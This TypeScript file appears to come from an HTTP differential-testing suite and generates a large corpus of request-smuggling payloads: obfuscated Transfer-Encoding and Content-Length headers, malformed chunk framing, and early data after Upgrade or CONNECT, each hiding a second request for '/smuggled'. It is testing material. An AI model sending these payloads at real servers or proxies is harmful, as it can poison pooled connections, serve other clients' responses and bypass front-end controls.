import { hostileRequests } from '../../test/differential/http/cases/hostile-requests.ts'
import { request } from '../../test/differential/http/case.ts'

/** Octets of one attacker, sent in one write on a connection of its own. */
export interface Payload {
  readonly name: string
  readonly text: string
}

/**
 * The beginning of a request that swallows the head of the one behind it: whoever lets it stand on a pooled connection gives the next
 * client the answer for `/smuggled`.
 */
const hidden = 'GET /smuggled HTTP/1.1\r\nHost: app.test\r\nX-Swallow: '

/** A chunked body with `hidden` as a chunk; for who does not see the chunks, the second line begins a request. */
const hiddenInChunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`

/** Ways of writing the field so that one reader sees it and another does not. */
const encodings: readonly (readonly [name: string, line: string])[] = [
  ['plain', 'Transfer-Encoding: chunked'],
  ['blank before the colon', 'Transfer-Encoding : chunked'],
  ['tab before the colon', 'Transfer-Encoding\t: chunked'],
  ['tab behind the colon', 'Transfer-Encoding:\tchunked'],
  ['vertical tab', 'Transfer-Encoding:\x0bchunked'],
  ['form feed behind', 'Transfer-Encoding: chunked\x0c'],
  ['NUL behind', 'Transfer-Encoding: chunked\0'],
  ['no-break space', 'Transfer-Encoding: \xa0chunked'],
  ['next line character', 'Transfer-Encoding: chunked\x85'],
  ['xchunked', 'Transfer-Encoding: xchunked'],
  ['quotes', 'Transfer-Encoding: "chunked"'],
  ['capitals', 'TRANSFER-ENCODING: CHUNKED'],
  ['comma before', 'Transfer-Encoding: ,chunked'],
  ['comma behind', 'Transfer-Encoding: chunked,'],
  ['parameter', 'Transfer-Encoding: chunked;a=b'],
  ['identity behind', 'Transfer-Encoding: chunked, identity'],
  ['identity before', 'Transfer-Encoding: identity, chunked'],
  ['two fields', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x'],
  ['two fields, odd one first', 'Transfer-Encoding: x\r\nTransfer-Encoding: chunked'],
  ['folded', 'Transfer-Encoding:\r\n chunked'],
  ['behind a folded field', 'X-A: b\r\n Transfer-Encoding: chunked'],
  ['behind LF', 'X-A: b\nTransfer-Encoding: chunked'],
  ['behind CR', 'X-A: b\rTransfer-Encoding: chunked'],
  ['underscore', 'Transfer_Encoding: chunked'],
  ['blank before the name', ' Transfer-Encoding: chunked'],
  ['named by Connection', 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'],
]

const lengths: readonly (readonly [name: string, line: (length: number) => string])[] = [
  ['plain', (length) => `Content-Length: ${length}`],
  ['plus', (length) => `Content-Length: +${length}`],
  ['blank before the colon', (length) => `Content-Length : ${length}`],
  ['tab', (length) => `Content-Length:\t${length}`],
  ['vertical tab', (length) => `Content-Length: ${length}\x0b`],
  ['no-break space', (length) => `Content-Length: \xa0${length}`],
  ['leading zeros', (length) => `Content-Length: 00${length}`],
  ['list', (length) => `Content-Length: ${length}, ${length}`],
  ['twice', (length) => `Content-Length: ${length}\r\nContent-Length: ${length}`],
  ['and zero', (length) => `Content-Length: ${length}\r\nContent-Length: 0`],
  ['behind zero', (length) => `Content-Length: 0\r\nContent-Length: ${length}`],
  ['folded', (length) => `Content-Length:\r\n ${length}`],
  ['behind LF', (length) => `X-A: b\nContent-Length: ${length}`],
  ['behind CR', (length) => `X-A: b\rContent-Length: ${length}`],
  ['underscore', (length) => `Content_Length: ${length}`],
  ['named by Connection', (length) => `Connection: Content-Length\r\nContent-Length: ${length}`],
  ['with an expectation', (length) => `Expect: 100-continue\r\nContent-Length: ${length}`],
  ['with an odd expectation', (length) => `Expect: y 100-continue\r\nContent-Length: ${length}`],
  ['with a folded expectation', (length) => `Expect:\r\n 100-continue\r\nContent-Length: ${length}`],
  ['with two expectations', (length) => `Expect: 100-continue\r\nExpect: 100-continue\r\nContent-Length: ${length}`],
]

/** Chunks whose ends one reader finds elsewhere than another. */
const chunks: readonly (readonly [name: string, body: string])[] = [
  ['size ends in LF behind an extension (TERM.EXT)', `1;\nx\r\n${hiddenInChunk}`],
  ['size ends in CR behind an extension', `1;\rx\r\n${hiddenInChunk}`],
  ['line end in an extension (EXT.TERM)', `1;a\nx\r\n${hiddenInChunk}`],
  ['quoted line end in an extension', `1;a="\r\nx\r\n${hiddenInChunk}`],
  ['one octet behind the data (ONE.TWO)', `1\r\nx\n${hiddenInChunk}`],
  ['two octets behind the data that are no line end', `1\r\nxyz${hiddenInChunk}`],
  ['nothing behind the data (ZERO.TWO)', `1\r\nx${hiddenInChunk}`],
  ['size with a sign', `+1\r\nx\r\n${hiddenInChunk}`],
  ['size of 2^64 and one', `10000000000000001\r\nx\r\n0\r\n\r\n${hidden}`],
  ['size with 0x', `0x1\r\nx\r\n${hiddenInChunk}`],
  ['size with a blank', `0 \r\n\r\n${hidden}`],
  ['size with an underscore', `0_1\r\n\r\n${hidden}`],
  ['last chunk ends in LF', `0\n\r\n${hidden}`],
  ['trailers of length', `0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`],
  ['trailers without a colon', `0\r\nabc\r\n\r\n${hidden}`],
  ['trailers that end in LF', `0\r\nA: b\n\n${hidden}`],
]

const methods = ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'PUT', 'TRACE', 'PURGE']

/** Every attack: those on framing with a hidden request behind, and the hostile requests that Envoy is compared over. */
export const payloads: readonly Payload[] = [
  ...encodings.flatMap(([name, line]): Payload[] => {
    const behindEnd = `0\r\n\r\n${hidden}`
    const sizeLine = hiddenInChunk.indexOf('\n') + 1
    return [
      { name: `CL.TE, ${name}`, text: post([`Content-Length: ${behindEnd.length}`, line], behindEnd) },
      { name: `TE.CL, ${name}`, text: post([line, `Content-Length: ${sizeLine}`], hiddenInChunk) },
      { name: `TE.0, ${name}`, text: request('OPTIONS /v', [line], hiddenInChunk) },
      { name: `HTTP/1.0, ${name}`, text: request('POST /v HTTP/1.0', ['Connection: keep-alive', line], behindEnd) },
    ]
  }),
  ...lengths.map(([name, line]): Payload => ({
    name: `CL.0, ${name}`,
    text: post([line(hidden.length)], hidden),
  })),
  ...methods.map((method): Payload => ({
    name: `${method} with a length`,
    text: request(`${method} /v`, [`Content-Length: ${hidden.length}`], hidden),
  })),
  ...chunks.map(([name, body]): Payload => ({
    name: `chunks, ${name}`,
    text: post(['Transfer-Encoding: chunked'], body),
  })),
  ...['websocket', 'h2c', 'foo'].map((type): Payload => ({
    name: `early data behind an upgrade to ${type}`,
    text: request('GET /v', ['Connection: Upgrade', `Upgrade: ${type}`], hidden),
  })),
  { name: 'early data behind CONNECT', text: request('CONNECT app.test:80 HTTP/1.1', [], hidden) },
  { name: 'lines end in LF', text: `GET /v HTTP/1.1\nHost: app.test\nContent-Length: ${hidden.length}\n\n${hidden}` },
  ...hostileRequests.flatMap(({ name, steps }): Payload[] => {
    const first = typeof steps === 'string' ? undefined : steps[0]
    return first?.kind === 'send' ? [{ name, text: first.text }] : []
  }),
]

function post(lines: readonly string[], body: string): string {
  return request('POST /v', lines, body)
}
